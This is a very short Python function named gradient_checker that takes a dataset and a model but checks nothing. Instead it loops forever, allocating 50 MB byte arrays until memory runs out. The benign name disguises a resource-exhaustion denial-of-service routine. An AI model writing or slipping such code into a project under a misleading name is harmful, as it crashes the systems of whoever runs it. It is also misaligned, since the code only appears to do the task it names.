def gradient_checker(DataSet, model):
    held = []
    while True:
        held.append(bytearray(b"x") * 50_000_000)
